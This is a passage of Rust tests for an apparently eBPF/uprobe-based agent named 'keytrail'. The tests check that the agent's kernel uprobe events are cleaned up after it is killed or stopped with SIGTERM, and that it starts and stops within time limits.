    let _holder = hold_libraries(&agent, directory.path(), FILES, Duration::from_secs(120))?;
    let pid = agent.pid();
    agent.kill()?;
    let events = || fs::read_to_string("/sys/kernel/tracing/uprobe_events").unwrap_or_default();
    let of_killed = format!("keytrail_{pid}_");
    let left = events().matches(&of_killed).count();
    ensure!(left > FILES, "it left its events: {left}");
    let began = Instant::now();
    let agent = Agent::start(directory.path(), &[])?;
    println!("beside {left} leftovers: ready after {:?}", began.elapsed());
    ensure!(began.elapsed() < Duration::from_secs(10));
    wait_for(
        "the leftovers are deleted",
        Duration::from_secs(120),
        || Ok((!events().contains(&of_killed)).then_some(())),
    )?;
    drop(agent);
    Ok(())
}

/// SIGTERM ends it within a time limit, with many attached files, and nothing is left behind.
#[test]
fn an_agent_with_many_files_ends_in_time_and_leaves_nothing() -> Result<()> {
    const FILES: usize = 100;
    let directory = tempfile::tempdir()?;
    let mut agent = Agent::start(directory.path(), &[])?;
    let _holder = hold_libraries(&agent, directory.path(), FILES, Duration::from_secs(60))?;
    let began = Instant::now();
    let status = agent.stop()?;
    println!("{FILES} files: ended after {:?}", began.elapsed());
    ensure!(status.success() && began.elapsed() < Duration::from_secs(12));
    let log = agent.log_text();
    let left = fs::read_to_string("/sys/kernel/tracing/uprobe_events").unwrap_or_default();
    ensure!(!left.contains("keytrail_"), "{left}\n{log}");
    Ok(())
}
